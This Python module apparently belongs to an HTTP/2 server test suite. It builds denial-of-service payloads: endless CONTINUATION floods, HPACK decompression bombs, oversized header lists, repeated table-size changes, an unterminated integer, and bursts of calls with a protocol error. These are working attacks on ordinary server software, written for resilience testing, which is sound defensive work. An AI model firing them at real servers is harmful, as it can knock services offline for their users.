"""Header blocks: endless, or larger than they look."""

from collections.abc import Iterator

from attack import Attack, Burst, Bursts, End
from floods import flood, on_stream, streams
from hpack.hpack import encode_integer
from http2 import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, call, call_fields, frame, literal,
)  # fmt: skip

METHOD_POST = b"\x83"
# The newest entry of the dynamic table.
NEWEST = b"\xbe"


def continued(payload: bytes) -> Bursts:
    """Yields HEADERS with endless CONTINUATION frames."""
    return flood(frame(CONTINUATION, 0, 1, payload), first=frame(HEADERS, 0, 1, call_fields()))


def references(stream: int) -> bytes:
    """Returns a field of 4000 bytes in the dynamic table, and 12,000 references to it: 48 MB."""
    fields = call_fields() + literal("bomb", "x" * 4000, 0x40) + NEWEST * 12_000
    return frame(HEADERS, END_HEADERS, stream, fields)


def large_list(stream: int) -> bytes:
    """Returns the largest block that fits HEADERS and the allowed CONTINUATION frames."""
    part = literal("large", "x" * 16_000)
    return (
        frame(HEADERS, 0, stream, call_fields())
        + frame(CONTINUATION, 0, stream, part) * 4
        + frame(CONTINUATION, END_HEADERS, stream, b""))  # fmt: skip


def table_sizes() -> bytes:
    """Returns repeated changes of the dynamic table's size."""
    return (b"\x20" + bytes([0x20 | 0x1F]) + encode_integer(4096, 5)[1:]) * 3000


def calls_and_an_error() -> Iterator[Burst]:
    data = b"".join(call(stream) for stream in range(1, 801, 2))
    yield Burst(data + frame(DATA, 0, 0, b"x"))


ATTACKS = [
    Attack("CONTINUATION flood", continued(literal("a", "b"))),
    Attack("CONTINUATION flood, empty", continued(b"")),
    Attack("CONTINUATION flood, 16 KiB", continued(literal("a", "b" * 16_000))),
    Attack("HPACK bomb: one field, named often", streams(references, at_once=4)),
    Attack("HPACK bomb: 16,000 small fields", streams(
        on_stream(HEADERS, END_HEADERS, call_fields() + METHOD_POST * 16_000), at_once=4)),
    Attack("header list of 64 KiB", streams(large_list, at_once=1)),
    Attack("HPACK table changed often", streams(
        on_stream(HEADERS, END_HEADERS, table_sizes() + call_fields()), at_once=4)),
    Attack("an integer without end", streams(
        on_stream(HEADERS, END_HEADERS, b"\xff" + b"\x80" * 12_000), at_once=1)),
    # Calls read together with the error must not be leaked. All begin before it is detected.
    Attack("calls and an error at once", calls_and_an_error, connections=4, within=15),
    Attack("calls and an error at once, 16 times", calls_and_an_error, connections=16, within=15,
           long=True),
    # Within every limit, but expensive for the server.
    Attack("calls with 12 KiB of headers", streams(on_stream(
        HEADERS, END_HEADERS | END_STREAM, call_fields(filler="x" * 12_000)), at_once=4),
           end=End.NOTHING),
]
